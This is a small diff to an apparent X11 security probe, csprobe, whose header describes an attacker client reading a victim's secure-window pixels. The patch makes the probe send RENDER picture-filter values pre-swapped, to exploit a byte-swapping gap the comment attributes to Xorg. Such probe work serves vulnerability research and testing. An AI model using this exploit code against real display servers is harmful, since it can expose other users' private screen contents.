@@ -30,6 +30,7 @@
  * Prints "red=N err=E" (red pixels read back by the attacker; E: the first X error code),
  * plus "seen=N" (most red pixels a racing reader saw in one look) for the races. */
 #include "csprobe.h"
+#include <arpa/inet.h>
 #include <pthread.h>
 
 #define VX 100                  /* the victim's secure window (csprobe victim) */
@@ -236,6 +237,17 @@ own(int composite)
 static int
 set_filter(xcb_render_picture_t p, const char *name, int n, const xcb_render_fixed_t *v)
 {
+    /* Xorg's SProcRenderSetPictureFilter does not swap the filter's values: a client of
+     * the other byte order that knows it sends them in the server's order (least
+     * significant byte first here), as an attacker would */
+    static xcb_render_fixed_t w[2 + 401];
+    int i;
+
+    if (htonl(1) == 1 && n <= (int) (sizeof(w) / sizeof(w[0]))) {
+        for (i = 0; i < n; i++)
+            w[i] = (xcb_render_fixed_t) __builtin_bswap32((uint32_t) v[i]);
+        v = w;
+    }
     return check(xcb_render_set_picture_filter_checked(c, p, strlen(name), name, n, v));
 }
 
